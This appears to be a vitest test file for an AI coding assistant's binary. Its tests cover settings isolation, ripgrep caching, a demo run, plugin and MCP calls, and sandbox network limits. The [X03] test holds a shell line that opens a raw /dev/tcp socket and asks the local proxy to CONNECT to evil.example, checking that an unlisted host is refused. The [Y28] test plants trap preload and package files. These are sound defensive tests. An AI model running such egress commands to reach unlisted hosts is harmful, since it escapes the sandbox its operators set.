import { mkdir, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { aca, doors, parseStream } from '../support/aca.ts';
import { configure, published } from '../support/mcp.ts';
import { calls, type Step, says } from '../support/model-server/script.ts';
import { binary } from '../support/program.ts';
import { noBubblewrap } from '../support/sandboxed.ts';
import { serve } from '../support/serve.ts';
import { type Workspace, workspace } from '../support/workspace.ts';

/** Plays the script, and gives what the model was told of its calls. */
async function answersTo(space: Workspace, script: Step[], allowed: string[] = []): Promise<string[]> {
  const server = await serve(script);
  const { model, env } = doors.anthropic(server.url);
  const allow = allowed.flatMap((rule) => ['--allow', rule]);
  const args = ['-p', 'go', '--model', model, '--output-format', 'stream-json', ...allow];
  const { stdout } = await aca(space, args, { env });
  return parseStream(stdout).events.flatMap((event) => {
    if (event.type !== 'message' || event.message.role !== 'tool') return [];
    return [event.message.content.map((part) => (part.type === 'text' ? part.text : '')).join('')];
  });
}

describe('[D01] the standalone binary', () => {
  beforeEach(({ skip }) => {
    if (binary === undefined) skip('there is no binary under test');
  });

  test('[Y28] reads no settings for its own runtime in a project: no variables, no code before its own', async () => {
    const server = await serve([says('ok')]);
    const canary = "require('node:fs').writeFileSync('canary', '');\n";
    const traps = {
      '.env': 'AI_ASSISTANT_MODEL=anthropic/trap\n',
      '.env.production': 'AI_ASSISTANT_MODEL=anthropic/trap\n',
      'bunfig.toml': 'preload = ["./preload.js"]\n',
      'preload.js': canary,
      'tsconfig.json': '{ "compilerOptions": { "paths": { "*": ["./preload.js"] } } }',
      'package.json': '{ "name": "trap", "main": "./preload.js", "imports": { "#*": "./preload.js" } }',
      'node_modules/undici/package.json': '{ "main": "../../preload.js" }',
      'node_modules/@vscode/ripgrep/package.json': '{ "main": "../../../preload.js" }',
    };
    const space = await workspace(traps);
    const outcome = await aca(space, ['-p', 'hi'], { env: doors.anthropic(server.url).env });
    expect(outcome).toMatchObject({ code: 0, stdout: 'ok\n' });
    expect(server.requests.map(({ model }) => model)).not.toEqual(['trap']);
    expect(await space.tree()).toEqual(traps);
  });

  test('unpacks its ripgrep once, for its user alone', async () => {
    const space = await workspace({ 'a.txt': 'needle\n' });
    const search = async () => {
      const found = await answersTo(space, [calls(['Grep', { pattern: 'needle' }]), says('found')]);
      expect(found).toEqual([expect.stringContaining('a.txt')]);
    };
    const programs = path.join(space.home, '.ai-assistant/cache/programs');
    await search();
    const [name = '', ...others] = await readdir(programs);
    expect(others).toEqual([]);
    const { mtimeMs, mode } = await stat(path.join(programs, name));
    if (process.platform !== 'win32') expect(mode & 0o777).toBe(0o700);
    await search();
    expect((await stat(path.join(programs, name))).mtimeMs).toBe(mtimeMs);
  });

  test('[X03] is its own bridge out of a sandbox that lets listed hosts through', async ({ skip }) => {
    if (noBubblewrap !== null) skip(noBubblewrap);
    const ask =
      'exec 5<>/dev/tcp/127.0.0.1/3128; printf "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n" >&5; head -1 <&5; exit 7';
    const space = await workspace({ 'ask.sh': ask });
    await configure(space, { sandbox: { allowedDomains: ['listed.example'] } });
    const script = [calls(['Bash', { command: 'bash ask.sh' }]), says('asked')];
    const answers = await answersTo(space, script, ['Bash(bash ask.sh)']);
    expect(answers).toEqual([expect.stringMatching(/^Exit code 7\nHTTP\/1\.1 403 /)]);
  });

  test('[C06] plays the demo to its end where there is no Node', async ({ skip }) => {
    if (process.platform === 'win32') skip('programs are found in other ways there');
    const space = await workspace();
    const programs = path.join(space.home, 'programs');
    await mkdir(programs);
    for (const name of ['bash', 'sh']) await symlink(`/bin/${name}`, path.join(programs, name));
    const { stdout } = await aca(space, ['--demo'], { env: { PATH: programs } });
    expect(stdout).toContain('ReferenceError: nmae is not defined');
    expect(stdout).toContain('ok: greet greets by name');
  });

  test('[Q01] runs a plugin and talks to a server over its own lines', async () => {
    const space = await workspace();
    const root = await configure(space, {
      plugins: ['./typed.ts'],
      mcpServers: { every: published('everything') },
    });
    await writeFile(
      path.join(root, 'typed.ts'),
      "const name: string = 'typed';\nexport default { name, version: '1.0.0', tools: [{ name: 'hi', description: 'x', parameters: {}, requiresApproval: false, execute: (): string => 'typed hello' }] };\n",
    );
    const script = [calls(['typed:hi', {}], ['every__get-sum', { a: 2, b: 40 }]), says('done')];
    expect(await answersTo(space, script, ['mcp:every:get-sum'])).toEqual([
      'typed hello',
      expect.stringContaining('42'),
    ]);
  });
});
